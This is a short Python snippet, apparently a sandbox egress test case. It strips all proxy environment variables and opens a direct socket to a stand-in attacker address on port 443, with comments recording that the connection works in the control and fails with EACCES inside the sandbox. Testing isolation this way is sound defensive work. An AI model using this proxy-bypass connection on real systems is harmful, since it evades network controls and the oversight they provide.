# line: env -u all proxy vars, a Python raw socket connect to the attacker's :443
# control: works
# inside: EACCES
# seen: tcp 198.51.100.66:443
import os
import socket

for name in [name for name in os.environ if name.lower().endswith("_proxy")]:
    del os.environ[name]
socket.create_connection(("198.51.100.66", 443), 5)
